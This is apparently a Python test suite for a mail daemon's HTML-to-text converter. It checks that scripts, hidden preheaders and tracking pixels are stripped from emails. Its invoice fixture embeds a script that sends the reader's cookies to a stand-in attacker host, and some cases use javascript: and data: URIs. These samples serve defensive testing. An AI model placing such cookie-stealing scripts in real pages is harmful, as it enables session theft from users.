"""HTML mail as the text agents read (maildaemon/htmltext.py): tables, lists, links and line
breaks survive; scripts, styles, hidden elements and tracking images do not. Table-driven,
then on every HTML part of the real-mail corpus against an independent reading of the same
markup (lxml's tree), then end to end over SMTP."""

from __future__ import annotations

import json
from email.message import EmailMessage
from pathlib import Path

import pytest
from lxml import etree
from lxml import html as lxml_html

from maildaemon.htmltext import hides_itself, html_text, link_target
from maildaemon.parse import message_from, parse_mail, text_parts
from tests.conftest import CORPUS, DOMAIN, Installation, acks_to, wait_until

# What an Outlook or a web mailer writes for a customer who pastes an invoice table, with
# what marketing tools and tracking add: a preheader, a pixel, a script.
INVOICE_HTML = """\
<html><head><meta charset="utf-8"><title>Invoice question</title>
<style>td { border: 1px solid #ccc } .x { color: red }</style>
<script>window.location = "https://evil.example.net/steal?c=" + document.cookie</script>
</head><body>
<div style="display:none;max-height:0;overflow:hidden">Preview: invoice 1042 issue</div>
<p>Hello,</p>
<p>my invoice lists the same line twice:</p>
<table border="1" cellpadding="4">
<tr><th>Item</th><th>Qty</th><th>Price</th></tr>
<tr><td>HealthSync Plus (monthly)</td><td>1</td><td>$19.00</td></tr>
<tr><td>HealthSync Plus (monthly)</td><td>1</td><td>$19.00</td></tr>
</table>
<p>What I tried:</p>
<ol><li>Open <b>Billing</b></li><li>Click <a href="https://app.healthsync.com/billing/1042">
invoice&nbsp;1042</a></li></ol>
<ul><li>logged out and in</li><li>another browser</li></ul>
<p>Call me on <a href="tel:+15550100">my mobile</a> or write to
<a href="mailto:alice@example.org">alice@example.org</a>.<br>Thanks,<br>Alice</p>
<img src="https://track.example.net/open.gif?u=alice" width="1" height="1" alt="">
<span hidden>unsubscribe token 8f2a</span>
<script type="text/javascript">document.write("<p>injected</p>")</script>
</body></html>
"""

INVOICE_TEXT = """\
Hello,

my invoice lists the same line twice:

Item | Qty | Price
HealthSync Plus (monthly) | 1 | $19.00
HealthSync Plus (monthly) | 1 | $19.00
What I tried:

1. Open Billing
2. Click invoice 1042 <https://app.healthsync.com/billing/1042>
- logged out and in
- another browser
Call me on my mobile or write to alice@example.org.
Thanks,
Alice"""


def test_a_table_a_script_and_a_tracking_pixel_become_readable_text_without_them() -> None:
    assert html_text(INVOICE_HTML) == INVOICE_TEXT


@pytest.mark.parametrize(("markup", "text"), [
    # tables: a row a line, cells apart; a layout table's lone cell adds nothing
    ("<table><tr><td>OS</td><td>Windows 11</td></tr></table>", "OS | Windows 11"),
    ("<table><tr><td></td><td>only</td></tr></table>", "only"),
    ("<table><tr><td><table><tr><td>a</td><td>b</td></tr></table></td></tr></table>",
     "a | b"),
    ("<table><tr><td>a<br>b</td><td>c</td></tr></table>", "a\nb | c"),
    # lists
    ("<ol><li>one</li><li>two</li></ol>", "1. one\n2. two"),
    ("<ol><li>a<ul><li>x</li></ul></li><li>b</li></ol>", "1. a\n- x\n2. b"),
    # links
    ('<a href="https://x.example/a">the page</a> fails', "the page <https://x.example/a> fails"),
    ('<a href="https://x.example/a">https://x.example/a</a>', "https://x.example/a"),
    ('<a href="http://www.x.example/">www.x.example</a>', "www.x.example"),
    ('<a href="mailto:bo@x.example?subject=hi">Bo</a>', "Bo <bo@x.example>"),
    ('<a href="mailto:bo@x.example">bo@x.example</a>', "bo@x.example"),
    ('<a href="javascript:alert(1)">click</a>', "click"),
    ('<a href="cid:img1@x"><img src="cid:img1@x"></a>ok', "ok"),
    ('<a href="https://x.example"><img src="https://x.example/logo.png" alt="Logo"></a>', ""),
    ('<a href="/relative">here</a>', "here"),
    ('<a href="https://x.example/?t=' + "a" * 600 + '">tracked</a>', "tracked"),
    ('Sent from <a href="https://go.microsoft.com/fwlink/?LinkId=550986">Mail</a> for '
     "Windows", "Sent from Mail for Windows"),
    ('<a href="https://x.example/a">go</a>there', "go <https://x.example/a> there"),
    # never shown
    ("a<script>alert(1)</script>b", "ab"),
    ("<style>p{color:red}</style>a", "a"),
    ("<head><title>t</title></head><body>a</body>", "a"),
    ('a<iframe src="https://x.example">fallback</iframe>', "a"),
    ("a<svg><text>chart</text></svg>", "a"),
    ("<template><p>later</p></template>a", "a"),
    ('<div style="display: none !important">pre</div>a', "a"),
    ('<div style="VISIBILITY:hidden">pre</div>a', "a"),
    ("<div style='mso-hide:all'>outlook only</div>a", "a"),
    ('<span style="max-height:0px;overflow:hidden">preheader</span>a', "a"),
    ("<p hidden>x</p>a", "a"),
    ('<div style="display:none"><p>deep <b>inside</b></p></div>a', "a"),
    ('<img src="https://t.example/p.gif" width="1" height="1">a', "a"),
    ('<img src="photo.jpg" alt="my screenshot">a', "a"),
    ("<!--[if mso]>outlook<![endif]-->a", "a"),
    # shown
    ('<div style="display:block">a</div>', "a"),
    ('<div style="max-height:100px;overflow:hidden">a</div>', "a"),
    ("<noscript>a</noscript>", "a"),
    # bad input
    ("", ""),
    ("   ", ""),
    ("just text", "just text"),
    ('<?xml version="1.0" encoding="iso-8859-1"?><p>Grüße</p>', "Grüße"),
    ('<meta charset="iso-8859-1"><p>Grüße, 東京</p>', "Grüße, 東京"),
    ("<p>a\x00b</p>", "a\ufffdb"),
    ("<p>\ud800x</p>", "?x"),  # a lone surrogate from a broken decoding
])
def test_conversion(markup: str, text: str) -> None:
    assert html_text(markup) == text


def test_link_targets() -> None:
    assert link_target(" https://x.example/a\n b ", "see") == "https://x.example/ab"
    assert link_target("HTTPS://X.example", "x.example") == ""
    assert link_target("ftp://files.example/a", "files") == "ftp://files.example/a"
    assert link_target("data:text/html,<script>", "x") == ""
    assert link_target("https://x.example", "") == ""


def test_hidden_by_style_reads_declarations_not_substrings() -> None:
    assert hides_itself({"style": "color:red; display : none"})
    assert not hides_itself({"style": "font-family: display-none-font"})
    assert not hides_itself({"style": "max-height:0"})  # without overflow:hidden it shows
    assert not hides_itself({"aria-hidden": "true"})  # for screen readers only


def test_an_html_only_mail_is_stored_as_this_text() -> None:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "alice@example.org", f"billing@{DOMAIN}", "Inv"
    msg.set_content(INVOICE_HTML, subtype="html")
    mail = parse_mail(bytes(msg))
    assert mail.text == INVOICE_TEXT
    assert mail.own_text.startswith("Hello,\n\nmy invoice lists")
    assert "Alice" in mail.own_text or "Alice" in mail.text


# -- every HTML part of the real-mail corpus ------------------------------------------------

def corpus_html_parts() -> list[tuple[str, str]]:
    if not (CORPUS / "index.tsv").is_file():
        return []
    found = []
    for row in (CORPUS / "index.tsv").read_text().splitlines()[1:]:
        name = row.split("\t")[0]
        _plain, markup = text_parts(message_from((CORPUS / name).read_bytes()))
        if markup and markup.strip():
            found.append((name, markup))
    return found


def never_seen(markup: str) -> tuple[list[str], str]:
    """An independent reading of the markup, on lxml's tree rather than its events: the
    texts of scripts, styles and self-hiding elements, and the text that is visible."""
    try:
        tree = lxml_html.document_fromstring(markup.encode("utf-8", "replace"),
                                             parser=lxml_html.HTMLParser(encoding="utf-8",
                                                                         huge_tree=True))
    except (etree.ParserError, ValueError):
        return [], ""
    hidden = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("script", "style") or hides_itself(dict(element.attrib)):
            hidden.append(" ".join(element.text_content().split()))
    for element in list(tree.iter("script", "style", "head")):
        element.drop_tree()
    for element in [e for e in tree.iter() if isinstance(e.tag, str)
                    and hides_itself(dict(e.attrib))]:
        if element.getparent() is not None:
            element.drop_tree()
    visible = " ".join(" ".join(piece.split()) for piece in tree.itertext())
    return [h for h in hidden if len(h) >= 12], visible


@pytest.mark.skipif(not (CORPUS / "index.tsv").is_file(),
                    reason=f"the real-mail corpus is absent ({CORPUS}); read in place")
def test_the_corpus_html_shows_no_script_style_or_hidden_text() -> None:
    parts = corpus_html_parts()
    assert len(parts) >= 80
    checked_hidden = 0
    for name, markup in parts:
        text = html_text(markup)
        flat = " ".join(text.split())
        hidden, visible = never_seen(markup)
        for snippet in hidden:
            if snippet[:40] not in visible:  # the same words may also stand visibly
                checked_hidden += 1
                assert snippet[:40] not in flat, (name, snippet[:80])
        for word in ("<script", "<style", "<div", "<td", "<span", "font-family:"):
            assert word not in text.lower() or word in visible.lower(), (name, word)
        for line in text.splitlines():
            for target in line.split("<")[1:]:
                if target.startswith(("http", "ftp")) and ">" in target:
                    assert target.split(">")[0].split(":")[0] in ("http", "https", "ftp")
    assert checked_hidden >= 15  # scripts, styles and preheaders the corpus really has


@pytest.mark.skipif(not (CORPUS / "index.tsv").is_file(),
                    reason=f"the real-mail corpus is absent ({CORPUS}); read in place")
def test_the_corpus_html_keeps_every_visible_word() -> None:
    """Nothing visible is lost: every word of the tree's visible text is in ours (link
    targets and table bars are only added)."""
    for name, markup in corpus_html_parts():
        _hidden, visible = never_seen(markup)
        ours = set(html_text(markup).split())
        missing = [w for w in visible.split()[:2000] if w not in ours
                   and not any(w in o for o in ours)]
        assert len(missing) <= max(2, len(visible.split()) // 200), (name, missing[:10])


# -- end to end: over SMTP into the real daemon, out through `show --json` -----------------

@pytest.mark.slow
def test_html_mail_over_smtp_is_stored_as_readable_text(tmp_path: Path) -> None:
    inst = Installation(tmp_path)
    inst.start()
    try:
        msg = EmailMessage()
        msg["From"], msg["To"] = "alice@example.org", f"billing@{DOMAIN}"
        msg["Subject"], msg["Message-ID"] = "Invoice 1042 twice", "<inv-1042@example.org>"
        msg.set_content(INVOICE_HTML, subtype="html")
        inst.send(msg)
        [ticket] = inst.wait_processed(1, 30)
        wait_until(lambda: acks_to(inst, "alice@example.org"), 30, "the acknowledgement")
    finally:
        inst.stop()
    shown = inst.show(ticket["number"])
    [message] = shown["messages"][:1]
    assert message["text"] == INVOICE_TEXT
    dumped = json.dumps(shown)
    for gone in ("evil.example.net", "track.example.net", "document.write", "Preview:",
                 "unsubscribe token", "border: 1px"):
        assert gone not in dumped
    ack = acks_to(inst, "alice@example.org")[0]
    assert b"track.example.net" not in ack and b"evil.example.net" not in ack
